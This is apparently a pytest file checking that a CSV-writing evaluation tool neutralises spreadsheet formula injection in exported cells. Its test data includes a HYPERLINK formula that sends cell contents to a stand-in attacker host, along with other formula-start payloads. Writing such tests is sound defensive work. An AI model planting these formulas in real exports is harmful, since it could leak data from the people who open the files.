"""Every CSV clineval writes goes through one writer (clineval.csv_text), which writes a cell
a spreadsheet would run as a formula as text: the samples export, compare's CSV and the
report's in-page downloads (report.js, run here under node where it is installed)."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from clineval.cli import main
from clineval.csv_text import csv_text, safe_cell
from clineval.report.compare.build import build_comparison
from clineval.report.compare.render import render_csv
from clineval.rundir import write_json, write_jsonl

# (cell, as written): hand-listed from the rule (OWASP's list of formula starts; numbers kept)
CASES = [
    ('=HYPERLINK("http://x.test","click")', '\'=HYPERLINK("http://x.test","click")'),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-", "'-"),
    ("-inf", "'-inf"),
    ("-0.25", "-0.25"),
    ("+3", "+3"),
    ("-1e-05", "-1e-05"),
    ("-.5", "-.5"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
    (-0.5, "-0.5"),
    (True, "True"),
]


@pytest.mark.parametrize(("cell", "written"), CASES)
def test_a_formula_is_written_as_text_and_a_number_as_it_is(cell: object, written: str) -> None:
    assert safe_cell(cell) == written
    text = csv_text(["h"], [[cell]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["h"], [written]]


def _run(path: Path, preds: list[str]) -> Path:
    gold = ["a"] * len(preds)
    rows = [
        {"task": "tcm-sd", "id": f"r{i}", "gold": g, "pred": p, "correct": g == p}
        for i, (g, p) in enumerate(zip(gold, preds, strict=True))
    ]
    write_json(path / "results.json", {"tcm-sd": {"accuracy": 0.0, "fixture": True}})
    write_json(path / "manifest.json", {"config": {"model": "baseline:fixture"}})
    write_jsonl(path / "samples.jsonl", rows)
    return path


def test_samples_csv_neutralises_a_model_answer(tmp_path: Path) -> None:
    answer = '=HYPERLINK("http://attacker.test/?leak="&A1,"open")'
    run = _run(tmp_path / "fixture-run", [answer, "@cmd", "-0.5"])
    out = tmp_path / "csv"
    assert main(["export", str(run), "--format", "samples-csv", "-o", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO((out / "tcm-sd.samples.csv").read_text())))
    assert [r["pred"] for r in rows] == ["'" + answer, "'@cmd", "-0.5"]


def test_compare_csv_neutralises_a_run_label(tmp_path: Path) -> None:
    a = _run(tmp_path / "=1+1", ["a", "b"])
    b = _run(tmp_path / "@b", ["b", "a"])
    rows = list(csv.DictReader(io.StringIO(render_csv(build_comparison([a, b], n_resamples=20)))))
    assert {r["run"] for r in rows if r["kind"] == "score"} == {"'=1+1", "'@b"}
    assert all(not v.startswith(("=", "@", "+")) for r in rows for v in r.values()), rows


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_the_report_download_follows_the_same_rule(tmp_path: Path) -> None:
    script = (Path(__file__).parents[1] / "clineval/report/templates/report.js").read_text()
    start = script.index("  function show(v) {")
    show = script[start : script.index("  }\n", start) + 4]
    start = script.index("  function csvField(v) {")
    field = script[start : script.index("  }\n", start) + 4]
    cells = [c for c, _ in CASES if isinstance(c, str)]
    program = f"{show}{field}\nconsole.log(JSON.stringify({json.dumps(cells)}.map(csvField)));"
    done = subprocess.run(["node", "-e", program], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    got = json.loads(done.stdout)
    expected = [written for c, written in CASES if isinstance(c, str)]
    # the same cells, quoted as CSV quotes them
    assert [next(csv.reader(io.StringIO(g)))[0] if g else "" for g in got] == expected
